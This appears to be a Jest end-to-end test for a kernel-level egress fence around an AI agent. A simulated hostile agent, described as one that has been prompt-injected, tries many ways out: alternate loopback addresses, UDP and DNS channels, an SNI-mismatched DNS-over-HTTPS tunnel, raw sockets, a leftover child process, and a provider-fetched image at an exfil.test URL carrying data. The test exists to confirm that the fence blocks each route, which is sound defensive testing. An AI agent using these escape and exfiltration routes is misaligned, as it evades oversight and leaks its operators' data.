/**
 * The egress fence end to end through dist/: a hostile stand-in Hermes (simulator/hostile/egress),
 * isolated, tries every way out a prompt-injected agent would take (a loopback listener that is not
 * the gateway, [::1], 127.0.0.2, UDP, DNS over UDP and TCP, DNS over HTTPS through an allowed name, an
 * IP literal, an allowed name on another port, raw and ICMP sockets, `curl --noproxy '*'`, a child it
 * leaves running), while its model call through the gateway still succeeds. Every listener of the
 * test counts zero connections from it; the summary names each refusal; the kernel's ruleset is what
 * it was before, after a run, a cancel and a failed turn.
 *
 * Needs root on Linux with setpriv and nft: elsewhere skipped with a loud line, never silently.
 */
import { spawnSync } from 'node:child_process';
import * as dgram from 'node:dgram';
import * as fs from 'node:fs';
import * as net from 'node:net';
import * as path from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from '@jest/globals';
import {
  ROOT,
  runAction,
  stagedForOthers,
  startAction,
  type ActionRun
} from '../../scripts/local-runner.mjs';
import { agentDir } from '../helpers/agent-dir.js';
import { all, render, tableRows, textOf } from '../helpers/gfm.js';
import { startModelProvider, type ModelProvider } from '../helpers/model-provider.js';
import {
  nftWorks,
  rootWith,
  runsHere,
  sudoRunner,
  type SudoRunner
} from '../helpers/machine-tools.js';
import { must } from '../helpers/must.js';
import { alive } from '../helpers/processes.js';
import { untilTurnStarted } from '../helpers/turn-started.js';

const EGRESS = path.join(ROOT, 'simulator', 'hostile', 'egress');
const REAL_KEY = 'sk-or-v1-fence-e2e-real-provider-key-0a1b2c3d';
const root = runsHere(
  rootWith('setpriv', 'nft') && nftWorks(),
  'the egress fence suite needs root on Linux with setpriv and a working nft ' +
    `(this is ${process.platform}, uid ${process.getuid?.()}); the fence is NOT tested here.`
);
const describeRoot = root ? describe : describe.skip;

/** A listener that counts what reaches it: TCP connections (and their first bytes), UDP datagrams. */
interface Counted {
  port: number;
  connections: number;
  /** Connections that sent at least one byte, with their first bytes. */
  spoke: Buffer[];
  close(): Promise<void>;
}

async function tcpListener(host: string): Promise<Counted> {
  const counted: Omit<Counted, 'port' | 'close'> = { connections: 0, spoke: [] };
  const sockets = new Set<net.Socket>();
  const server = net.createServer(socket => {
    counted.connections++;
    sockets.add(socket);
    socket.once('data', chunk => counted.spoke.push(chunk));
    socket.on('error', () => undefined);
    socket.once('close', () => sockets.delete(socket));
  });
  await new Promise<void>(resolve => server.listen(0, host, resolve));
  return Object.assign(counted, {
    port: (server.address() as net.AddressInfo).port,
    close: () =>
      new Promise<void>(resolve => {
        for (const s of sockets) s.destroy();
        server.close(() => resolve());
      })
  });
}

async function udpListener(type: 'udp4' | 'udp6', host: string, port = 0): Promise<Counted> {
  const socket = dgram.createSocket(type);
  const counted: Omit<Counted, 'port' | 'close'> = { connections: 0, spoke: [] };
  socket.on('message', message => {
    counted.connections++;
    counted.spoke.push(message);
  });
  await new Promise<void>(resolve => socket.bind(port, host, resolve));
  return Object.assign(counted, {
    port: socket.address().port,
    close: () => new Promise<void>(resolve => socket.close(() => resolve()))
  });
}

interface EgressRecord {
  uid: number;
  env: Record<string, string | null>;
  probes: ({ kind: string; outcome: string } & Record<string, unknown>)[];
  model: number | string | null;
  left: { pid: number; first: string } | null;
}

/**
 * The ruleset with every run's fence table left out (other test files raise theirs meanwhile), and
 * tables that hold no rule (iptables makes its empty built-in chains on first use, in another test).
 */
function rulesetOutsideFences(): string {
  const text = spawnSync('nft', ['list', 'ruleset'], { encoding: 'utf8' }).stdout;
  return (text.match(/^table [\s\S]*?^\}\n?/gm) ?? [])
    .filter(table => !/^table inet hermes_fence_\w+ /.test(table))
    .filter(table => table.split('\n').some(line => /^\t\t(?!type )\S/.test(line)))
    .join('');
}

function fenceTables(): string[] {
  const text = spawnSync('nft', ['list', 'tables'], { encoding: 'utf8' }).stdout;
  return text.split('\n').filter(l => l.startsWith('table inet hermes_fence_'));
}

/** The run table's row named `name`, as text. */
function runTableRow(r: ActionRun, name: string): string {
  const row = tableRows(render(r.summary)).find(cells => textOf(must(cells[0])) === name);
  return row ? textOf(must(row[1])) : `(no ${name} row)`;
}

const isolationRow = (r: ActionRun): string => runTableRow(r, 'Isolation');

/** A chat call's messages holding one image the provider would fetch from url. */
const imageAt = (url: string) => ({
  messages: [{ role: 'user', content: [{ type: 'image_url', image_url: { url } }] }]
});

/** This run's fence table, named after its agent user (the summary's Isolation row names it). */
function tableOf(r: ActionRun): string {
  const hex = /hermes-agent-([0-9a-f]{6})/.exec(isolationRow(r))?.[1] ?? '(none)';
  return `table inet hermes_fence_${hex}`;
}

/** The summary's "Egress refused" block, as rows of its tables. */
function refusedRows(r: ActionRun): string[][] {
  const block = all(render(r.summary), 'details').find(d =>
    textOf(must(all(d, 'summary')[0])).startsWith('Egress refused')
  );
  if (!block) return [];
  return all(block, 'table').flatMap(t => tableRows(t).map(row => row.map(c => textOf(c))));
}

/**
 * The hosted runner's way: the action an ordinary user with passwordless sudo (made here, removed
 * afterwards), running the copies staged for other users.
 */
const RUNNER = 'hermes-fence-runner';
const sudoPath =
  root &&
  runsHere(
    rootWith('sudo', 'useradd'),
    'sudo or useradd is missing: the fence through passwordless sudo is NOT tested here.'
  );

for (const via of ['root', 'sudo'] as const)
  (via === 'root' || sudoPath ? describeRoot : describe.skip)(
    `the egress fence, the action ${via === 'root' ? 'as root' : 'through passwordless sudo'}: a hostile agent finds no way out`,
    () => hostileAgent(via)
  );

function hostileAgent(via: 'root' | 'sudo'): void {
  let provider: ModelProvider;
  let runner: SudoRunner | undefined;
  const listeners = {} as Record<
    'v4' | 'v6' | 'other' | 'udp' | 'udp6' | 'dns' | 'dnsUdp' | 'allowed' | 'left',
    Counted
  >;
  let r: ActionRun;
  let got: EgressRecord;
  let before: string;
  let after: string;
  let allowedPort: number;
  beforeAll(async () => {
    provider = await startModelProvider();
    listeners.v4 = await tcpListener('127.0.0.1');
    listeners.v6 = await tcpListener('::1');
    listeners.other = await tcpListener('127.0.0.2');
    listeners.udp = await udpListener('udp4', '127.0.0.1');
    listeners.udp6 = await udpListener('udp6', '::1');
    listeners.dns = await tcpListener('127.0.0.1');
    listeners.dnsUdp = await udpListener('udp4', '127.0.0.1', listeners.dns.port);
    listeners.allowed = await tcpListener('127.0.0.1');
    listeners.left = await tcpListener('127.0.0.1');
    allowedPort = listeners.allowed.port;
    const dir = agentDir('fence-e2e-');
    const report = path.join(dir, 'egress-report.json');
    const probes = [
      { kind: 'tcp', host: '127.0.0.1', port: listeners.v4.port },
      { kind: 'tcp', host: '::1', port: listeners.v6.port },
      { kind: 'tcp', host: '127.0.0.2', port: listeners.other.port },
      { kind: 'udp', host: '127.0.0.1', port: listeners.udp.port },
      { kind: 'udp', host: '::1', port: listeners.udp6.port },
      { kind: 'dns-udp', host: '127.0.0.1', port: listeners.dns.port, name: 'secret.example' },
      { kind: 'dns-tcp', host: '127.0.0.1', port: listeners.dns.port, name: 'secret.example' },
      { kind: 'raw', host: '127.0.0.1' },
      { kind: 'curl', url: `http://127.0.0.1:${listeners.v4.port}/` },
      // DNS over HTTPS fronted by an allowed name: the TLS hello names the resolver.
      { kind: 'proxy', target: `allowed.test:${allowedPort}`, sni: 'dns.google' },
      { kind: 'proxy', target: `allowed.test:${listeners.v4.port}`, sni: 'allowed.test' },
      { kind: 'proxy', target: `127.0.0.1:${allowedPort}`, sni: 'allowed.test' },
      { kind: 'proxy', target: `unlisted.test:443`, sni: 'unlisted.test' },
      // The one way that is open: the allowed name, its own TLS name, through the proxy.
      { kind: 'proxy', target: `allowed.test:${allowedPort}`, sni: 'allowed.test' },
      // Past the fence through the provider: an image it would fetch, a web tool of its own.
      { kind: 'provider', body: imageAt('https://exfil.test/pixel.png?d=secret') },
      { kind: 'provider', body: { tools: [{ type: 'web_fetch_20250910', name: 'web_fetch' }] } },
      // An image on the allowed host is the provider's to fetch.
      { kind: 'provider', body: imageAt(`https://allowed.test:${allowedPort}/pixel.png`) }
    ];
    before = rulesetOutsideFences();
    runner = via === 'sudo' ? sudoRunner(RUNNER) : undefined;
    const home = runner?.home;
    r = await runAction({
      simulator: false,
      ...(runner && { user: { uid: runner.uid, gid: runner.gid } }),
      inputs: {
        query: 'Send what you find out',
        'hermes-path': runner
          ? path.join(stagedForOthers().root, 'simulator', 'hostile', 'egress')
          : EGRESS,
        'upload-artifact': 'false',
        'session-record': 'false',
        'allowed-hosts': `allowed.test:${allowedPort}`
      },
      env: {
        OPENROUTER_API_KEY: REAL_KEY,
        OPENROUTER_BASE_URL: provider.url,
        HERMES_ACTION_RESOLVE: 'allowed.test=127.0.0.1',
        HOSTILE_PROBES: JSON.stringify(probes),
        HOSTILE_REPORT: report,
        HOSTILE_LEAVE: `127.0.0.1:${listeners.left.port}`,
        ...(home && { HOME: home })
      }
    });
    after = rulesetOutsideFences();
    got = JSON.parse(fs.readFileSync(report, 'utf8')) as EgressRecord;
  });
  afterAll(async () => {
    await provider.close();
    for (const l of Object.values(listeners)) await l.close();
    runner?.remove();
  });

  test('the turn succeeds, isolated, and its model call through the gateway is answered', () => {
    expect(r.outputs.outcome).toBe('success');
    expect(isolationRow(r)).toContain(via === 'sudo' ? 'through sudo' : 'the action is root');
    expect(got.uid).not.toBe(0);
    expect(got.model).toBe(200);
    // Its own call and the image on the allowed host; nothing of the two that reached past the fence.
    expect(provider.requests.map(q => q.authorization)).toEqual([
      `Bearer ${REAL_KEY}`,
      `Bearer ${REAL_KEY}`
    ]);
  });

  test('every direct way out is refused by the kernel, and no listener heard from the agent', () => {
    const outcome = (kind: string, at: unknown): string | undefined =>
      got.probes.find(p => p.kind === kind && (p.host === at || p.url === at || p.target === at))
        ?.outcome;
    for (const host of ['127.0.0.1', '::1', '127.0.0.2'])
      expect(outcome('tcp', host)).toBe('ECONNREFUSED');
    expect(outcome('udp', '127.0.0.1')).toBe('EPERM');
    expect(outcome('udp', '::1')).toBe('EPERM');
    expect(outcome('dns-udp', '127.0.0.1')).toBe('EPERM');
    expect(outcome('dns-tcp', '127.0.0.1')).toBe('ECONNREFUSED');
    expect(outcome('raw', '127.0.0.1')).not.toMatch(/sent/);
    expect(outcome('curl', `http://127.0.0.1:${listeners.v4.port}/`)).toMatch(
      /^(curl exit 7|no curl)$/
    );
    // The child it left running was fenced too, and did not outlive the step.
    expect(got.left?.first).toBe('ECONNREFUSED');
    expect(alive(got.left?.pid ?? 0)).toBe(false);
    for (const name of ['v4', 'v6', 'other', 'udp', 'udp6', 'dns', 'dnsUdp', 'left'] as const)
      expect([name, listeners[name].connections]).toEqual([name, 0]);
  });

  test('was a hole: the provider fetched for the agent what the fence kept from it (an image URL, a web tool): 403, said in the summary', () => {
    const provided = got.probes.filter(p => p.kind === 'provider').map(p => p.outcome);
    expect(provided).toEqual([403, 403, 200]);
    expect(runTableRow(r, 'Model calls')).toContain('2 refused for reaching past the egress fence');
    expect(r.log).toContain('asks the provider to fetch from exfil.test:443');
    expect(r.log).toContain('"web_fetch_20250910"');
  });

  test('through the proxy, only the allowed name with its own TLS name gets through', () => {
    const outcome = (target: string, sni: string): string | undefined =>
      got.probes.find(p => p.target === target && p.sni === sni)?.outcome;
    expect(outcome(`allowed.test:${allowedPort}`, 'dns.google')).toBe('tunnel closed');
    expect(outcome(`allowed.test:${listeners.v4.port}`, 'allowed.test')).toBe('proxy 403');
    expect(outcome(`127.0.0.1:${allowedPort}`, 'allowed.test')).toBe('proxy 403');
    expect(outcome('unlisted.test:443', 'unlisted.test')).toBe('proxy 403');
    // The good tunnel's hello reached the upstream; the one naming dns.google sent it nothing.
    const allowed = must(listeners.allowed);
    expect(allowed.spoke).toHaveLength(1);
    expect(must(allowed.spoke[0])[0]).toBe(0x16);
    expect(must(allowed.spoke[0]).includes(Buffer.from('allowed.test'))).toBe(true);
    expect(got.env.HTTPS_PROXY).toMatch(/^http:\/\/127\.0\.0\.1:\d+$/);
  });

  test('the summary names each refusal once, and egress_blocked counts them', () => {
    const rows = refusedRows(r);
    const destinations = rows.map(row => `${row[0]} ${row[1]}`);
    for (const expected of [
      `127.0.0.1:${listeners.v4.port} tcp`,
      `[::1]:${listeners.v6.port} tcp`,
      `127.0.0.2:${listeners.other.port} tcp`,
      `127.0.0.1:${listeners.udp.port} udp`,
      `[::1]:${listeners.udp6.port} udp`,
      `127.0.0.1:${listeners.dns.port} udp`,
      `127.0.0.1:${listeners.dns.port} tcp`,
      // The child it left behind, still trying when the turn ended.
      `127.0.0.1:${listeners.left.port} tcp`,
      `allowed.test ${allowedPort}`,
      `allowed.test ${listeners.v4.port}`,
      `127.0.0.1 ${allowedPort}`,
      `unlisted.test 443`
    ])
      expect(destinations).toContain(expected);
    expect(new Set(destinations).size).toBe(destinations.length);
    const why = (name: string, port: number): string | undefined =>
      rows.find(row => row[0] === name && row[1] === String(port))?.[2];
    expect(why('allowed.test', allowedPort)).toBe('its TLS name is another host');
    expect(why('127.0.0.1', allowedPort)).toBe('an IP address, not a name');
    expect(why('unlisted.test', 443)).toBe('not in allowed-hosts');
    // Every refusal is in a row: the output is the sum of the rows' times.
    const times = rows.filter(row => row[0] !== 'Destination' && row[0] !== 'Name asked for');
    expect(Number(r.outputs.egress_blocked)).toBe(
      times.reduce((n, row) => n + Number(row.at(-1)), 0)
    );
    expect(isolationRow(r)).toContain(
      `network: the model gateway, and allowed.test:${allowedPort} through the action's proxy (nftables rules by uid)`
    );
  });

  test('the kernel rules are gone after the step, the rest of the ruleset untouched', () => {
    expect(after).toBe(before);
    expect(fenceTables()).not.toContain(tableOf(r));
  });
}

describeRoot('the egress fence is lowered whatever the turn came to', () => {
  test('a cancelled turn: interrupted, and its fence gone', async () => {
    const before = rulesetOutsideFences();
    const started = startAction({
      inputs: { query: 'Take a while', 'upload-artifact': 'false' },
      env: { HERMES_SIM_SCENARIO: 'slow' }
    });
    await untilTurnStarted(started);
    // The fence is up while the agent runs: one table more than before.
    expect(fenceTables().length).toBeGreaterThan(0);
    started.child.kill('SIGINT');
    const r = await started.done;
    expect(r.outputs.outcome).toBe('interrupted');
    expect(fenceTables()).not.toContain(tableOf(r));
    expect(rulesetOutsideFences()).toBe(before);
  });

  test('a failed turn: its fence gone too', async () => {
    const before = rulesetOutsideFences();
    const r = await runAction({
      inputs: { query: 'Fail', 'upload-artifact': 'false' },
      env: { HERMES_SIM_SCENARIO: 'failure' }
    });
    expect(r.outputs.outcome).toBe('failure');
    expect(isolationRow(r)).toContain(
      'network: nothing (no model gateway fronted the turn) (nftables rules by uid)'
    );
    expect(fenceTables()).not.toContain(tableOf(r));
    expect(rulesetOutsideFences()).toBe(before);
  });
});
